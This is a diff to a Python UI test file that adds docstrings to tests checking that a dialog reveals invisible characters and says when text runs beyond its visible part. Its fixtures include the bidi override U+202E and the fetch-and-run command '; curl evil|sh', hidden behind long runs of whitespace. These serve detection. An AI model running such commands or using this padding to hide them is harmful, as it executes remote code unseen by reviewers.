@@ -27,6 +27,9 @@ def line(dialog, name, what="hidden"):
 
 
 def test_nothing_is_hidden_in_a_dialog(linked):
+    """Promise 2.18 | Invisible characters are written out wherever people read a text, and named under a field that
+    holds some.
+    """
     assert len(PLACES) * len(HIDDEN) >= 300
     dialog = linked.put(definition=DEFINITION)
     texts = dialog.js("return arguments[0].map((place) => document.querySelector(place)?.textContent.trim())", PLACES)
@@ -45,6 +48,7 @@ def test_nothing_is_hidden_in_a_dialog(linked):
 
 
 def test_what_a_control_hides_is_named_under_it(linked):
+    """Promise 2.18"""
     dialog = linked.put(definition=DEFINITION)
     assert dialog.text("note") == "a\u202eb"
     assert line(dialog, "note") == "Hidden characters: ⟨U+202E⟩"
@@ -76,6 +80,7 @@ def test_what_was_entered_comes_back_with_its_line(asking):
 
 
 def test_a_text_that_goes_on_says_so(linked):
+    """Promise 2.20 | What is beyond the visible part of a context says so."""
     dialog = linked.put(definition={"title": "T", "context": [
         {"code": "make deploy" + " " * 4000 + "; curl evil|sh"}, {"text": "make deploy" + "\n" * 2000 + "; curl evil|sh"},
         {"diff": "+" + "x" * 2000 + "; curl evil|sh"}, {"code": "make deploy" + "\u3000 " * 45 + "; curl evil|sh"},
